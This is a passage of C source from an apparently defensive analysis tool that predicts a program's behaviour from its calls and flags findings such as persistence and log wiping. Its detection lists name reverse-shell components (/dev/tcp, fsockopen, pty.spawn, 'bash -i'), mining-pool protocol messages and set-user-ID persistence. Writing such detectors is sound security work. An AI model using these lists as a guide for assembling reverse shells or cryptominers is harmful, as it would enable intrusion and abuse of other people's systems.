		snprintf(buf, sizeof(buf), "%.*s", (int)strcspn(net, " \t|;&()`\n'\"<>"), net);
		emit(a, c, "socket:inet", buf);
		emit(a, c, "connect:inet", buf);
		emit(a, c, "dup2:socket", buf);
	}
}

static void shell_command_body(struct an *a, const struct callsite *c, const char *cmd)
{
	command_line(a, c, cmd, false);
}

static void shell_command(struct an *a, const struct callsite *c, const char *cmd)
{
	emit(a, c, "clone:process", cmd);
	emit(a, c, "execve:shell", cmd);
	shell_command_body(a, c, cmd);
}

static bool contains_any(const char *s, const char *const *words, size_t n)
{
	for (size_t i = 0; i < n; i++)
		if (strstr(s, words[i]))
			return true;
	return false;
}

/* An interpreter's one-line program (python -c, perl -e, ruby -e, php -r,
 * node -e, lua -e), read for what a reverse shell in any of them does, in
 * that order: a connection, the socket put on stdio, a shell. */
static void inline_program(struct an *a, const struct callsite *c, const char *code)
{
	static const char *const connects[] = { "connect(", ".connect", "create_connection",
						"TCPSocket", "fsockopen", "IO::Socket::INET",
						"/dev/tcp/", "net.Socket", "Socket.new" };
	static const char *const onto_stdio[] = { "dup2", "fileno", ">&", "<&", "STDIN",
						  ".pipe(" };
	static const char *const shells[] = { "/bin/sh", "/bin/bash", "pty.spawn", "sh -i",
					      "bash -i" };
	bool net;

	if (!code)
		return;
	net = contains_any(code, connects, ARRAY_SIZE(connects));
	if (net) {
		emit(a, c, "socket:inet", code);
		emit(a, c, "connect:inet", code);
		if (contains_any(code, onto_stdio, ARRAY_SIZE(onto_stdio)))
			emit(a, c, "dup2:socket", code);
	}
	if (contains_any(code, shells, ARRAY_SIZE(shells)))
		emit(a, c, "execve:shell", code);
}

/* What prog runs when its first argument is opt and its second text: a
 * shell's -c command (or -ic, -lc), an interpreter's inline program. */
static void exec_inline(struct an *a, const struct callsite *c, const char *prog,
			const char *opt, const char *text)
{
	static const struct {
		const char *name, *flags;
	} interp[] = { { "python", "c" }, { "perl", "eE" }, { "ruby", "e" }, { "php", "r" },
		       { "node", "e" },   { "lua", "e" } };
	const char *base;

	if (!prog || !opt || opt[0] != '-' || !opt[1] || opt[1] == '-' || !text)
		return;
	if (tokclass_is_shell(prog)) {
		if (strchr(opt, 'c'))
			shell_command_body(a, c, text);
		return;
	}
	base = util_base_name(prog);
	for (size_t i = 0; i < ARRAY_SIZE(interp); i++)
		if (!strncmp(base, interp[i].name, strlen(interp[i].name)) && !opt[2] &&
		    strchr(interp[i].flags, opt[1])) {
			inline_program(a, c, text);
			return;
		}
}

/* A mining pool's protocol (T1496): Stratum's methods (Bitcoin and
 * Ethereum pools), or the JSON-RPC login of CryptoNote pools (XMRig's
 * Monero mining: a wallet as the login, the miner's agent or its
 * algorithms; a login with only a password is any service's). */
static bool mining_message(const char *msg)
{
	static const char *const methods[] = { "mining.subscribe", "mining.authorize",
					       "mining.submit", "eth_submitLogin",
					       "eth_submitWork", "\"keepalived\"" };

	return msg && (contains_any(msg, methods, ARRAY_SIZE(methods)) ||
		       (strstr(msg, "\"method\"") && strstr(msg, "\"login\"") &&
			(strstr(msg, "\"agent\"") || strstr(msg, "\"algo\""))));
}

/* A send whose message the walk knows (a constant, a format) is a
 * mining pool's login or work when it speaks that protocol: the kernel
 * never sees what is sent, the prediction can. */
static const char *send_token(const struct an *a, const struct callsite *c, int ai)
{
	char msg[512];

	return mining_message(arg_str(a, c, ai, msg, sizeof(msg))) ? "sendto:mining" : "sendto";
}

static const struct pmap *lookup(const char *name)
{
	for (size_t i = 0; i < ARRAY_SIZE(map); i++)
		if (!strcmp(map[i].name, name))
			return &map[i];
	return NULL;
}

static const char *family_token(uint64_t family, const char *inet, const char *unx,
				const char *other)
{
	if (family == X_AF_INET || family == X_AF_INET6 || family == SOCK_FAMILY_UNKNOWN)
		return inet;
	return family == X_AF_UNIX ? unx : other;
}

static uint64_t fd_family(const struct arg *fd)
{
	return fd->kind == RK_SOCKFD ? fd->val : SOCK_FAMILY_UNKNOWN;
}

void dcam_predict_call(struct an *a, const struct callsite *c, bool predict, uint8_t *ret_kind,
		       uint64_t *ret_val)
{
	const struct pmap *m = lookup(c->name);
	char s0[DCAM_ARG_LEN], s1[DCAM_ARG_LEN], s2[DCAM_ARG_LEN];
	const char *path, *argv1, *token = NULL;
	unsigned long flags;
	struct arg x, y, z;
	int a0, a1, a2;

	*ret_kind = RK_UNKNOWN;
	*ret_val = 0;
	if (!m)
		return;
	a0 = m->a0;
	a1 = m->a1;
	a2 = m->a2;
	/* the raw clone syscall takes its flags first; libc's clone(fn, stack, flags) */
	if (m->kind == P_CLONE && c->via == DCAM_PRED_SYSCALL)
		a0 = 0;
	x = arg_of(c, a0);
	y = arg_of(c, a1);
	z = arg_of(c, a2);
	switch (m->kind) {
	case P_FIXED:
		token = m->token;
		break;
	case P_MEMFD:
		token = m->token;
		*ret_kind = RK_MEMFD;
		break;
	case P_OPEN:
		path = arg_str(a, c, a0, s0, sizeof(s0));
		open_call(a, c, predict, path, y.kind == RK_CONST ? y.val : O_RDONLY);
		return;
	case P_CREAT:
		path = arg_str(a, c, a0, s0, sizeof(s0));
		open_call(a, c, predict, path, O_WRONLY | O_CREAT | O_TRUNC);
		return;
	case P_UNLINK:
		path = arg_str(a, c, a0, s0, sizeof(s0));
		token = tokclass_unlink(path);
		if (predict)
			emit(a, c, token, path);
		else if (!strcmp(token, "unlinkat:log"))
			log_wipe_finding(a, c, path, "deleted");
		return;
	case P_FOPEN:
		path = arg_str(a, c, a0, s0, sizeof(s0));
		flags = fopen_flags(arg_str(a, c, a1, s1, sizeof(s1)));
		open_call(a, c, predict, path, flags);
		return;
	case P_EXEC:
	case P_SPAWN:
		path = arg_str(a, c, a0, s0, sizeof(s0));
		if (!predict)
			return;
		if (m->kind == P_SPAWN)
			emit(a, c, "clone:process", path);
		argv1 = arg_str(a, c, a2, s2, sizeof(s2));
		token = tokclass_exec(path, path ? multicall_applet(path,
						arg_str(a, c, a1, s1, sizeof(s1)), argv1) : NULL);
		emit(a, c, token, path);
		if (a2 == 2) { /* execl's argv[2] follows: a -c command, a program */
			char text[DCAM_SHELL_CMD_LEN], args[DCAM_SHELL_CMD_LEN];
			const char *argv2 = arg_str(a, c, 3, text, sizeof(text));

			exec_inline(a, c, path, argv1, argv2);
			if (path && argv1) {
				snprintf(args, sizeof(args), "%s %s", argv1, argv2 ? argv2 : "");
				relay_shell(a, c, path, args);
				command_effects(a, c, path, args);
			}
		}
		return;
	case P_EXECVEAT:
		token = y.kind == RK_CONST && (y.val & X_AT_EMPTY_PATH) ? "execveat:fd" : "execveat";
		break;
	case P_HTTP:
		if (predict) {
			emit(a, c, "socket:inet", c->name);
			emit(a, c, "connect:inet", c->name);
			emit(a, c, "sendto", c->name);
			emit(a, c, "recvfrom", c->name);
		}
		return;
	case P_SHELL: {
		/* one-liners run long (a reverse shell through a fifo, a
		 * download piped to a shell and then cleaned up) */
		char cmd[DCAM_SHELL_CMD_LEN];

		if (predict)
			shell_command(a, c, arg_str(a, c, a0, cmd, sizeof(cmd)));
		return;
	}
	case P_SOCKET: {
		uint64_t fam = x.kind == RK_CONST ? x.val : SOCK_FAMILY_UNKNOWN;

		if (fam == X_AF_PACKET || (y.kind == RK_CONST && (y.val & 0xf) == X_SOCK_RAW))
			token = "socket:raw";
		else
			token = family_token(fam, "socket:inet", "socket:unix", "socket:other");
		*ret_kind = RK_SOCKFD;
		*ret_val = fam;
		break;
	}
	case P_CONNECT:
		token = family_token(fd_family(&x), "connect:inet", "connect:unix", "connect:other");
		break;
	case P_BIND:
		token = family_token(fd_family(&x), "bind:inet", "bind", "bind");
		break;
	case P_ACCEPT:
		token = "accept4";
		*ret_kind = RK_SOCKFD;
		*ret_val = fd_family(&x);
		break;
	case P_SOCKIO:
		if (x.kind != RK_SOCKFD)
			return;
		token = a1 >= 0 ? send_token(a, c, a1) : m->token;
		break;
	case P_SEND:
		token = send_token(a, c, a1);
		break;
	case P_DUP:
		token = x.kind == RK_SOCKFD ? "dup2:socket" : m->token;
		if (x.kind == RK_SOCKFD && a0 == 0) { /* dup's result; not a file action's */
			*ret_kind = RK_SOCKFD;
			*ret_val = x.val;
		}
		break;
	case P_MPROTECT:
		if (x.kind != RK_CONST || !(x.val & PROT_EXEC_BIT))
			return; /* the kernel side records only executable protections */
		token = (x.val & X_PROT_WRITE) ? "mprotect:wx" : "mprotect:exec";
		break;
	case P_MMAP:
		if (x.kind != RK_CONST || !(x.val & PROT_EXEC_BIT))
			return;
		if (y.kind != RK_CONST || (y.val & X_MAP_ANONYMOUS))
			token = "mmap:exec_anon";
		else
			token = z.kind == RK_MEMFD ? "mmap:exec_memfd" : "mmap:exec_file";
		break;
	case P_PTRACE:
		token = "ptrace";
		/* ATTACH, SEIZE, TRACEME; POKETEXT, POKEDATA, POKEUSR, SETREGS */
		if (x.kind == RK_CONST && (x.val == 16 || x.val == 0x4206 || x.val == 0))
			token = "ptrace:attach";
		else if (x.kind == RK_CONST && (x.val == 4 || x.val == 5 || x.val == 6 || x.val == 13))
			token = "ptrace:poke";
		break;
	case P_CLONE:
		token = x.kind == RK_CONST && (x.val & X_CLONE_THREAD) ? "clone:thread"
									: "clone:process";
		break;
	case P_CHMOD: {
		bool fd = !strcmp(m->token, "fchmod");

		token = m->token;
		if (x.kind == RK_CONST && (x.val & 06000)) {
			token = fd ? "fchmod:setid" : "fchmodat:setid";
			/* a program that runs as its owner for whoever starts
			 * it later (a set-user-ID shell): a way back in */
			if (!predict)
				dcam_add_finding(a, DCAM_CAT_PERSISTENCE, c->e->via, c->e, c->at,
						 DCAM_W_PERSIST_WRITE * dcam_via_factor(c->e->via),
						 "%s(mode %04llo): set-user-ID or set-group-ID", c->name,
						 (unsigned long long)x.val);
		} else if (x.kind == RK_CONST && (x.val & 0111))
			token = fd ? "fchmod:exec" : "fchmodat:exec";
		break;
	}
	}
	if (predict && token)
		emit(a, c, token, NULL);
}

void dcam_predict_hook(struct an *a, const struct callsite *c, uint8_t *ret_kind,
		       uint64_t *ret_val)
{
	const char *token = dcam_hook_token(a, c->name);

	if (token)
		emit(a, c, token, NULL);
	dcam_predict_call(a, c, true, ret_kind, ret_val);
}

bool dcam_ring_op_predicted(uint64_t op)
{
	return op < ARRAY_SIZE(ring_op_call) && ring_op_call[op].call;
}

bool dcam_ring_submits(const char *name)
{
	for (size_t i = 0; i < ARRAY_SIZE(ring_submit); i++)
		if (!strcmp(ring_submit[i], name))
			return true;
	return false;
}

void dcam_predict_ring_ops(struct an *a, const struct callsite *c, bool predict)
{
	/* openat(dirfd, path, flags): the path in register 0, the flags in 1 */
	static const uint8_t open_args[6] = { REG_NONE, 0, 1, REG_NONE, REG_NONE, REG_NONE };
	uint8_t kind;
	uint64_t val;

	for (uint8_t i = 0; i < c->rg->nring_ops; i++) {
		const struct ring_op *r = &c->rg->ring_op[i];
		struct callsite op = *c;
		struct regs entry;

		op.name = ring_op_call[r->op].call;
		if (ring_op_call[r->op].opens) {
			memset(&entry, 0, sizeof(entry));
			entry.kind[0] = r->has_addr ? RK_CONST : RK_UNKNOWN;
			entry.val[0] = r->addr;
			entry.kind[1] = r->has_flags ? RK_CONST : RK_UNKNOWN;
			entry.val[1] = r->flags;
			op.rg = &entry;
			op.argreg = open_args;
		}
		dcam_predict_call(a, &op, predict, &kind, &val);
	}
}
